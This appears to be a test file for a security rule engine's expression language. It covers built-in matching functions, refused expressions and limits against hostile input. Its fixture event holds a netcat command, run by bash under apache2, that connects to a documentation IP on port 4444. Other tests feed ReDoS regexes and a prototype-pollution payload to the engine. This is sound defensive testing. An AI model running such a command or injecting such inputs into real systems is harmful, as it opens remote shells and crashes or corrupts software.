// Expressions: Vedette's own functions, what is refused and where, and bounds against hostile events and hostile expressions.
import { describe, expect, it } from 'vitest';
import type { EventDocument } from '../../event/document.ts';
import { compilePredicate } from '../../rules/expression/compile.ts';
import { EXPRESSION_LENGTH_MAX, parseExpression } from '../../rules/expression/parse.ts';
import { CHAIN_LENGTH_MAX, EXPRESSION_DEPTH_MAX, EXPRESSION_NODES_MAX } from '../../rules/expression/reading.ts';
import { REGEX_LENGTH_MAX } from '../../rules/expression/regex.ts';
import { ExpressionError } from '../../rules/rule.ts';
import { LISTS } from './random-expressions.ts';

function matches(source: string, event: EventDocument, options: { nowMs?: number; fuel?: number } = {}): boolean {
  const parsed = parseExpression(source, LISTS);
  if (parsed.kind === 'refused') throw new Error(JSON.stringify(parsed.problems));
  return compilePredicate(parsed.expression, options.fuel)(event, options.nowMs ?? 0);
}

function problems(source: string): readonly string[] {
  const parsed = parseExpression(source, LISTS);
  return parsed.kind === 'refused' ? parsed.problems.map(({ at, message }) => `${at}: ${message}`) : [];
}

const EVENT: EventDocument = {
  event: { type: ['start'], action: 'executed' },
  process: {
    name: 'bash',
    pid: 42,
    args: ['bash', '-c', 'nc 203.0.113.7 4444'],
    executable: '/usr/bin/bash',
    parent: { name: 'apache2' },
    ancestors: [{ name: 'apache2' }, { name: 'systemd' }],
  },
  source: { ip: '::ffff:10.1.2.3' },
  host: { ip: ['192.168.1.5', 'fe80::1'] },
  user: { id: '0' },
  auditd: {
    paths: [
      { name: '/etc/a', nametype: 'PARENT' },
      { name: '/etc/b', nametype: 'CREATE' },
    ],
  },
  empty: { text: '', list: [], nothing: null },
};

describe('functions of our own', () => {
  it.each([
    ['$cidr(source.ip, "10.0.0.0/8")', true],
    ['$cidr(source.ip, "192.168.0.0/16")', false],
    ['$cidr(host.ip, "10.0.0.0/8", "192.168.0.0/16")', true],
    ['$cidr(host.ip, "fe80::/10")', true],
    ['$cidr(host.ip, "2001:db8::/32")', false],
    ['$cidr(process.name, "0.0.0.0/0")', false],
    ['$cidr(missing, "0.0.0.0/0")', false],
    ['$glob(process.executable, "/usr/*/bash")', true],
    ['$glob(process.executable, "/usr/*/ba?h")', true],
    ['$glob(process.executable, "bash")', false],
    ['$glob(process.executable, "/usr/bin/ba[s]h")', false],
    ['$glob(process.args, "nc *")', true],
    ['$glob("a*b", "a\\\\*b")', true],
    ['$glob("axb", "a\\\\*b")', false],
    ['$glob("a\nb", "a*b")', true],
    ['$glob("abcabd", "*ab?")', true],
    ['$glob("aXbXc", "a*b*c", "none")', true],
    ['$glob("ab", "ab*b")', false],
    ['$glob("axxb", "a*x*x*b")', true],
    ['$glob("axb", "a*x*x*b")', false],
    ['$like(process.executable, "/USR/*/BASH")', true],
    ['$like("KELVIN \u212a", "*kelvin k")', true],
    ['$like("\u039f\u0394\u039f\u03a3", "*\u03bf\u03c2")', true],
    ['$like("\u039f\u0394\u039f\u03a3.x", "\u039f\u0394\u039f\u03a3*")', true],
    ['$is("\u039f\u0394\u039f\u03a3", "\u03bf\u03b4\u03bf\u03c3")', true],
    ['$like("A*B", "a\\\\*b")', true],
    ['$like("AxB", "a\\\\*b")', false],
    ['$like("AxB", "a?b")', true],
    ['$like(process.args, "NC *", "-zz")', true],
    ['$like(missing, "*")', false],
    ['$like(22, "2*")', true],
    ['$matches(process.args, /nc [0-9.]+ 4444/)', true],
    ['$matches(process.args, "^-c$")', true],
    ['$matches(process.args, /^-C$/)', false],
    ['$matches(process.args, /^-C$/i)', true],
    ['$matches(missing, /./)', false],
    ['$basename(process.executable) = "bash"', true],
    ['"b" in $basename(auditd.paths.name)', true],
    ['$basename(missing) = ""', false],
    ['$descends_from(process, "systemd")', true],
    ['$descends_from(process, ["x", "apache2"])', true],
    ['$descends_from(process, $shells)', false],
    ['$descends_from(missing, "systemd")', false],
    ['$has(process.name)', true],
    ['$has(empty.text) or $has(empty.list) or $has(empty.nothing) or $has(missing)', false],
    ['$is(process.name, "BASH")', true],
    ['$is(event.type, "Start", "end")', true],
    ['$is(user.id, 0)', true],
    ['$is(process.pid, "42")', true],
    ['$is(process.name, $shells)', true],
    ['$is(missing, "")', false],
    ['$startswith(process.executable, "/opt/", "/usr/")', true],
    ['$startswith(process.executable, $shells)', false],
    ['$endswith(process.args, "4444")', true],
    ['$entropy("aaaa") = 0 and $entropy("abcd") = 2', true],
    ['$entropy(missing) > 0', false],
    ['$base64decode("YmFzaA==") = process.name', true],
    ['auditd.paths[nametype="CREATE"].name = "/etc/b"', true],
    ['auditd.paths[nametype="DELETE"].name = "/etc/b"', false],
    ['$now() = "1970-01-01T00:00:01.000Z" and $millis() = 1000', true],
  ])('%s is %s', (source, expected) => {
    expect(matches(source, EVENT, { nowMs: 1_000 })).toBe(expected);
  });
});

describe('what is refused', () => {
  it.each([
    ['$eval("1")', '0: the function $eval is refused: it makes an expression of what an event says'],
    ['$random() > 0', '0: the function $random is refused: it gives something else each time'],
    ['$map(a, $shuffle)', '8: unknown list $shuffle'],
    ['$shels = 1', '0: unknown list $shels'],
    ['$lowercas(a)', '0: the function $lowercas is not known'],
    ['$shells(a)', '0: $shells is a list, no function'],
    ['contains(a, "b")', '0: `contains` is called without its $'],
    ['a.b("c")', '2: a field is no function'],
    ['$$ := 1', '3: `$$` cannot be bound'],
    ['a ~> $count()[0]', '11: a predicate or `{…}` behind a call right of `~>` is ignored by JSONata'],
    ['$contains(a, /x/) ?: b', '15: a regular expression cannot stand left of `?:` or `??`'],
    ['$replace(a, /(?=x)/, "")', '12: look-ahead and look-behind are not supported'],
    ['$matches(a, /(?=x)/)', '12: look-ahead and look-behind are not supported'],
    ['$matches(a, /(a)\\1/)', '12: back-references are not supported'],
    ['$lowercase(a, b)', '0: $lowercase takes 0 to 1 arguments, not 2'],
    ['$cidr(a, "10.0.0.0/33")', '9: `10.0.0.0/33` is not a network'],
    ['$is(a, b)', '7: argument 2 of $is must be written out or a list'],
  ])('%s', (source, expected) => {
    const said = problems(source).map((problem) => problem.slice(problem.indexOf(':')));
    expect(said.join('\n')).toContain(expected.slice(expected.indexOf(':')));
    const place = Number.parseInt(problems(source)[0] ?? '', 10);
    expect(Math.abs(place - Number.parseInt(expected, 10)), `${source}: at ${place}`).toBeLessThanOrEqual(1);
  });

  it('tells every problem of an expression at once', () => {
    expect(problems('$eval(a) = 1 and $shels = 2 and $foo(b)')).toHaveLength(3);
  });

  it.each(['process.name = ', 'a b', '"open', '(a', 'a = /(/', '`a', '', '   ', '$contains(a, /[/)'])(
    'a syntax error has a place: %j',
    (source) => {
      const parsed = parseExpression(source, LISTS);
      expect(parsed.kind).toBe('refused');
      if (parsed.kind !== 'refused') return;
      expect(parsed.problems[0]?.at).toBeLessThanOrEqual(Math.max(0, source.length));
      expect(parsed.problems[0]?.message).not.toBe('');
    },
  );
});

describe('hostile expressions', () => {
  it('refuses one that is too long', () => {
    expect(problems(`a = "${'x'.repeat(EXPRESSION_LENGTH_MAX)}"`)[0]).toMatch(/longer than/);
  });

  it('refuses too many parts, and patterns that are too long', () => {
    expect(problems(`a in [${'1,'.repeat(EXPRESSION_NODES_MAX)}1]`)[0]).toMatch(/nested too deeply or too large/);
    expect(problems(`$matches(a, /${'x'.repeat(REGEX_LENGTH_MAX + 1)}/)`)[0]).toMatch(/longer than/);
    expect(problems(`$glob(a, "${'x'.repeat(REGEX_LENGTH_MAX + 1)}")`)[0]).toMatch(/longer than/);
    expect(problems('$matches(a, /x{1,5000}/)')[0]).toMatch(/does not compile/);
  });

  it('refuses deep nesting, whatever it is made of', () => {
    for (const depth of [EXPRESSION_DEPTH_MAX + 1, 2_000]) {
      expect(problems(`${'('.repeat(depth)}a${')'.repeat(depth)}`)[0]).toMatch(/nested too deeply/);
      expect(problems(`${'$not('.repeat(depth)}a${')'.repeat(depth)}`)[0]).toMatch(/nested too deeply/);
      expect(problems(`${'a[b = '.repeat(depth)}1${']'.repeat(depth)}`)[0]).toMatch(/nested too deeply/);
    }
  });

  it('takes long chains, which nest nothing', () => {
    const chain = (length: number, of: (at: number) => string, operator: string): string =>
      Array.from({ length }, (_, at) => of(at)).join(operator);
    const pairs = chain(1_000, (at) => `(a = ${at} and b = 2)`, ' or ');
    expect(matches(pairs, { a: 999, b: 2 })).toBe(true);
    expect(matches(pairs, { a: 999, b: 3 })).toBe(false);
    const single = chain(CHAIN_LENGTH_MAX, (at) => `a = ${at}`, ' or ');
    expect(matches(single, { a: CHAIN_LENGTH_MAX - 1 })).toBe(true);
    expect(matches(single, { a: CHAIN_LENGTH_MAX })).toBe(false);
    const none = chain(CHAIN_LENGTH_MAX, (at) => `a != ${at}`, ' and ');
    expect(matches(none, { a: -1 })).toBe(true);
    expect(matches(none, { a: CHAIN_LENGTH_MAX - 1 })).toBe(false);
    expect(matches(`$length(${chain(CHAIN_LENGTH_MAX, () => 'a', '&')}) = ${CHAIN_LENGTH_MAX}`, { a: 'x' })).toBe(true);
    expect(matches(`a in [${chain(5_000, String, ', ')}]`, { a: 4_999 })).toBe(true);
  });

  it('tells once that a chain is too long', () => {
    for (const [operand, operator] of [
      ['a', ' or '],
      ['a', ' and '],
      ['a', '&'],
      ['a', '+'],
      ['(a = 1 and b = 2)', ' or '],
    ] as const) {
      for (const length of [CHAIN_LENGTH_MAX + 1, 5_000]) {
        const source = Array.from({ length }, () => operand).join(operator);
        if (source.length > EXPRESSION_LENGTH_MAX) continue;
        expect(problems(source)).toEqual([expect.stringMatching(/nested too deeply or too large/)]);
      }
    }
    expect(
      problems(`[${Array.from({ length: 30 }, () => '-'.repeat(EXPRESSION_DEPTH_MAX + 1).concat('a')).join()}]`),
    ).toHaveLength(1);
  });

  it('refuses defaults that would double the tree at each level, and takes those in a row', () => {
    const levels = 14;
    expect(problems(`${'('.repeat(levels)}abcdef${'?:b)'.repeat(levels)}`)[0]).toMatch(/uses of `\?:` or `\?\?`/);
    expect(problems(`${'('.repeat(levels)}abcdef${'??b)'.repeat(levels)}`)[0]).toMatch(/uses of `\?:` or `\?\?`/);
    expect(problems(Array.from({ length: 60 }, (_, index) => `a${index}`).join(' ?: '))).toEqual([]);
    expect(problems(`$matches(a, /${'(?:x)'.repeat(levels)}/)`)).toEqual([]);
  });

  it('answers on a regular expression that would run for ever elsewhere', () => {
    const evil = { process: { name: `${'a'.repeat(50_000)}!` } };
    expect(matches('$matches(process.name, /^(a+)+$/)', evil)).toBe(false);
    expect(matches('$contains(process.name, /^(a|a)*$/)', evil)).toBe(false);
  });
});

describe('hostile events', () => {
  it('sees no inherited names', () => {
    for (const name of ['constructor', '`__proto__`', 'toString', 'hasOwnProperty', 'process.constructor.name']) {
      expect(matches(`$exists(${name})`, { process: {} }), name).toBe(false);
    }
    const own = JSON.parse('{"__proto__": {"polluted": "yes"}}') as EventDocument;
    expect(matches('`__proto__`.polluted = "yes"', own)).toBe(true);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('takes names that the official engine uses for itself as ordinary fields', () => {
    expect(matches('a.b = 1', { a: { b: 1, _jsonata_function: true, sequence: true } })).toBe(true);
  });

  it('runs out of fuel on a huge event, and says so', () => {
    const huge = { process: { args: Array.from({ length: 10_000 }, (_, index) => String(index)) } };
    expect(() => matches('$count(process.args[$ = "x"]) = 0', huge, { fuel: 5_000 })).toThrow(
      expect.objectContaining({ code: 'fuel' }),
    );
    expect(matches('$count(process.args[$ = "x"]) = 0', huge)).toBe(true);
  });

  it('has fuel for an exec with two mebibytes of arguments', () => {
    const event = { process: { name: 'bash', args: ['x'.repeat(1024 * 1024), `${'y'.repeat(1024 * 1024)}evil`] } };
    expect(matches('$matches(process.args, /evil$/) and $matches(process.args, /^x.*x$/)', event)).toBe(true);
  });

  it('fails with a code, and not otherwise, on an event that is nested too deeply', () => {
    let deep: unknown = 'x';
    for (let level = 0; level < 50_000; level += 1) deep = [deep];
    for (const source of ['a', 'a = a2', '$string(a) = "x"', '$is(a, "x")', 'a.b = "x"']) {
      try {
        matches(source, { a: deep, a2: structuredClone(1) });
      } catch (error) {
        expect(error, source).toBeInstanceOf(ExpressionError);
      }
    }
    expect(() => matches('$is(a, "x")', { a: deep })).toThrow(expect.objectContaining({ code: 'depth' }));
  });

  it('names the code of the official error', () => {
    expect(() => matches('process.pid > "5"', EVENT)).toThrow(expect.objectContaining({ code: 'T2009' }));
    expect(() => matches('$contains(process.args, "x")', EVENT)).toThrow(expect.objectContaining({ code: 'T0410' }));
    expect(() => matches('event > 1', EVENT)).toThrow(expect.objectContaining({ code: 'T2010' }));
  });
});
